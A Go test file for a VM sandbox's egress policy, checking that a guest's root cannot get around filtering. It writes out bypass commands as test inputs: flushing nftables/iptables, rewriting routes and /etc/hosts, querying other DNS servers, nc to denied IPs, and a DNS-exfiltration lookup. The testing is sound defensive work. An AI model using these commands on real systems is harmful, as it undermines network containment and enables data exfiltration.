package sim_test

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/hearthvm/hearth/egress"
	"github.com/hearthvm/hearth/internal/testagent"
	"github.com/hearthvm/hearth/internal/testnet"
	"github.com/hearthvm/hearth/vmm"
	"github.com/hearthvm/hearth/vmm/sim"
)

// egressNet is the test network of the egress tests: allowed.test and
// *.wild.test are what policies allow, denied.test what they do not, and
// 10.1.2.3 / 169.254.169.254 stand for private and metadata addresses.
func egressNet(t *testing.T) (*testnet.Net, *sim.Driver) {
	t.Helper()
	n := testnet.Start(t,
		testnet.Host{Addr: "198.18.0.10", Names: []string{"allowed.test"}},
		testnet.Host{Addr: "198.18.0.20", Names: []string{"denied.test"}},
		testnet.Host{Addr: "203.0.113.5", Names: []string{"*.wild.test"}},
		testnet.Host{Addr: "10.1.2.3", Names: []string{"private.test"}},
		testnet.Host{Addr: "169.254.169.254", Names: []string{"metadata.test"}},
	)
	d, err := sim.New(sim.Options{Root: t.TempDir(), AgentCommand: []string{testagent.Path(t)}, BootTimeout: 20 * time.Second, UplinkNetns: n.UplinkPath})
	if err != nil {
		t.Fatal(err)
	}
	return n, d
}

// get fetches http://target/ from inside h; it reports whether the
// server answered.
func get(t *testing.T, h vmm.Handle, target string) bool {
	t.Helper()
	r := run(t, h, "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 "+target+" 80 2>&1; true")
	return strings.Contains(r.stdout, "hello from")
}

// TestEgress_PolicyEnforcedOutsideTheGuest: a policy set at claim time on
// a warm VM is enforced by the node's filter and resolver — allowed names
// and addresses answer, the rest do not — and the guest's root cannot get
// around it: another DNS server (UDP or TCP), an IP literal it was never
// told, removing routes or flushing the filter.
func TestEgress_PolicyEnforcedOutsideTheGuest(t *testing.T) {
	n, d := egressNet(t)
	open := boot(t, d, vmm.Spec{ID: "open", Net: "egress"})
	for _, target := range []string{"allowed.test", "denied.test", "x.wild.test", "198.18.0.20", "10.1.2.3"} {
		if !get(t, open, target) {
			t.Fatalf("without a policy %s is unreachable: the test network is broken", target)
		}
	}
	h := boot(t, d, vmm.Spec{ID: "filtered", Net: "egress"})
	p, errs := egress.FromE2B(egress.E2B{DenyOut: []string{egress.AllTraffic}, AllowOut: []string{"allowed.test", "*.wild.test", "10.1.2.3"}})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if err := d.SetEgress(context.Background(), h, p); err != nil {
		t.Fatal(err)
	}
	for target, want := range map[string]bool{
		"allowed.test": true, "a.wild.test": true, "10.1.2.3": true,
		"denied.test": false, "198.18.0.20": false, "169.254.169.254": false,
	} {
		if got := get(t, h, target); got != want {
			t.Errorf("%s: reached %v, want %v", target, got, want)
		}
	}
	hitsBefore := n.Hits("198.18.0.20")
	defer func() {
		if t.Failed() {
			t.Logf("denied.test's server answered %d requests during the attacks", n.Hits("198.18.0.20")-hitsBefore)
		}
	}()
	for _, attack := range []string{
		"nslookup denied.test " + testnet.DNSAddr,                              // another DNS server
		"ip route del default 2>&1; ip route add 198.18.0.20/32 dev tap0 2>&1", // routes
		"nft flush ruleset 2>&1; iptables -F 2>&1",                             // the filter
		"echo '198.18.0.20 denied.test' >> /etc/hosts",                         // a name it was not told
	} {
		run(t, h, attack)
	}
	if get(t, h, "denied.test") || get(t, h, "198.18.0.20") {
		t.Error("the guest's root got around the policy")
	}
	// Each of these reaches the denied server when nothing filters it (the
	// unfiltered VM shows it), but ping and IPv6, which slirp's lane does
	// not carry at all; the filter covers them anyway.
	for _, attack := range []struct {
		script      string
		openReaches bool
	}{
		// an IP literal with an allowed name as its Host header
		{"printf 'GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n' | nc -w 3 198.18.0.20 80", true},
		// TLS to the denied address, whatever SNI it would send
		{"nc -w 3 198.18.0.20 443 </dev/null && echo CONNECTED", true},
		// DNS over TCP to a server the policy does not allow
		{"nc -w 3 " + testnet.DNSAddr + " 53 </dev/null && echo CONNECTED", true},
		// IPv6, ICMP (ping's echo socket, the raw socket a guest has)
		{"nc -w 3 -6 ::ffff:198.18.0.20 80 </dev/null && echo CONNECTED", false},
		{"ping -c 1 -W 2 198.18.0.20 && echo CONNECTED", false},
	} {
		reached := func(vm vmm.Handle) bool {
			r := run(t, vm, attack.script+" 2>&1; true")
			return strings.Contains(r.stdout, "HTTP/1.0 200") || strings.Contains(r.stdout, "CONNECTED")
		}
		if attack.openReaches && !reached(open) {
			t.Fatalf("%q does not reach its target even unfiltered: the probe is broken", attack.script)
		}
		before := n.Hits("198.18.0.20")
		if reached(h) || n.Hits("198.18.0.20") != before {
			t.Errorf("bypass %q got through", attack.script)
		}
	}
}

// TestEgress_DomainAllowListResolvesOnlyItsNames: under an allow-list of
// domains the node's resolver answers only those names; any other query
// is refused without reaching the upstream (no DNS exfiltration), and a
// guest's query to another server is filtered.
func TestEgress_DomainAllowListResolvesOnlyItsNames(t *testing.T) {
	n, d := egressNet(t)
	h := boot(t, d, vmm.Spec{ID: "domains", Net: "egress"})
	p, errs := egress.FromE2B(egress.E2B{DenyOut: []string{egress.AllTraffic}, AllowOut: []string{"allowed.test"}})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if err := d.SetEgress(context.Background(), h, p); err != nil {
		t.Fatal(err)
	}
	if !get(t, h, "allowed.test") {
		t.Fatal("allowed.test unreachable")
	}
	for _, q := range []string{"nslookup secret-c2VjcmV0.denied.test", "nslookup denied.test " + testnet.DNSAddr} {
		if r := run(t, h, q+" 2>&1; true"); strings.Contains(r.stdout, "198.18.0.20") {
			t.Errorf("%s answered: %s", q, r.stdout)
		}
	}
	if got := n.Asked("secret-c2VjcmV0.denied.test") + n.Asked("denied.test"); got != 0 {
		t.Errorf("the upstream was asked %d times for names the policy does not allow", got)
	}
}

// TestEgress_ReadoptedByANewDriver: a driver in a new process (the old
// one's sockets closed, its VMs running) re-adopts an egress VM, holds it
// to its policy again, and boots new egress VMs.
func TestEgress_ReadoptedByANewDriver(t *testing.T) {
	n, d := egressNet(t)
	_ = n
	h := boot(t, d, vmm.Spec{ID: "kept", Net: "egress"})
	p, _ := egress.FromE2B(egress.E2B{DenyOut: []string{egress.AllTraffic}, AllowOut: []string{"allowed.test"}})
	if err := d.SetEgress(context.Background(), h, p); err != nil {
		t.Fatal(err)
	}
	root := d.Root()
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
	d2, err := sim.New(sim.Options{Root: root, AgentCommand: []string{testagent.Path(t)}, BootTimeout: 20 * time.Second, UplinkNetns: n.UplinkPath})
	if err != nil {
		t.Fatal(err)
	}
	h2, err := d2.Restore(context.Background(), h)
	if err != nil {
		t.Fatal(err)
	}
	if err := d2.SetEgress(context.Background(), h2, p); err != nil {
		t.Fatal(err)
	}
	if !get(t, h2, "allowed.test") || get(t, h2, "denied.test") {
		t.Error("the re-adopted VM does not hold to its policy")
	}
	fresh := boot(t, d2, vmm.Spec{ID: "fresh", Net: "egress"})
	if !get(t, fresh, "denied.test") {
		t.Error("a new driver's fresh egress VM has no network")
	}
}

// TestEgress_HostMountsSurviveABoot: booting an egress VM leaves the host's
// mounts alone — slirp4netns's sandbox detaches its old root, which, run
// in the host's mount namespace, unmounted every mount nested below a
// shared one (a network namespace's /run/netns/<name> among them).
func TestEgress_HostMountsSurviveABoot(t *testing.T) {
	n, d := egressNet(t)
	count := func() int {
		b, err := os.ReadFile("/proc/self/mountinfo")
		if err != nil {
			t.Fatal(err)
		}
		return strings.Count(string(b), "/run/netns/"+n.Uplink+" ")
	}
	if count() != 1 {
		t.Fatalf("the uplink namespace is not mounted at /run/netns/%s", n.Uplink)
	}
	boot(t, d, vmm.Spec{ID: "mounts", Net: "egress"})
	if count() != 1 {
		t.Fatal("booting an egress VM unmounted a host mount (/run/netns/...)")
	}
}

// TestEgress_PoolAndClaimPoliciesBothHold: a pool's policy (a template's),
// installed as the VM boots, holds before any claim and together with the
// claim's own: a connection leaves only if both allow it.
func TestEgress_PoolAndClaimPoliciesBothHold(t *testing.T) {
	_, d := egressNet(t)
	pool := &egress.Policy{Otherwise: egress.Allow, Rules: []egress.Rule{
		{Action: egress.Deny, CIDR: "198.18.0.20"},
		{Action: egress.Deny, Domain: "*.wild.test"},
	}}
	h := boot(t, d, vmm.Spec{ID: "pooled", Net: "egress", Egress: pool})
	for target, want := range map[string]bool{"allowed.test": true, "10.1.2.3": true, "denied.test": false, "a.wild.test": false} {
		if got := get(t, h, target); got != want {
			t.Errorf("pool policy alone: %s reached %v, want %v", target, got, want)
		}
	}
	claim, errs := egress.FromE2B(egress.E2B{DenyOut: []string{egress.AllTraffic}, AllowOut: []string{"allowed.test", "b.wild.test", "198.18.0.20"}})
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if err := d.SetEgress(context.Background(), h, claim); err != nil {
		t.Fatal(err)
	}
	for target, want := range map[string]bool{"allowed.test": true, "10.1.2.3": false, "denied.test": false, "198.18.0.20": false, "b.wild.test": false} {
		if got := get(t, h, target); got != want {
			t.Errorf("pool and claim: %s reached %v, want %v", target, got, want)
		}
	}
}
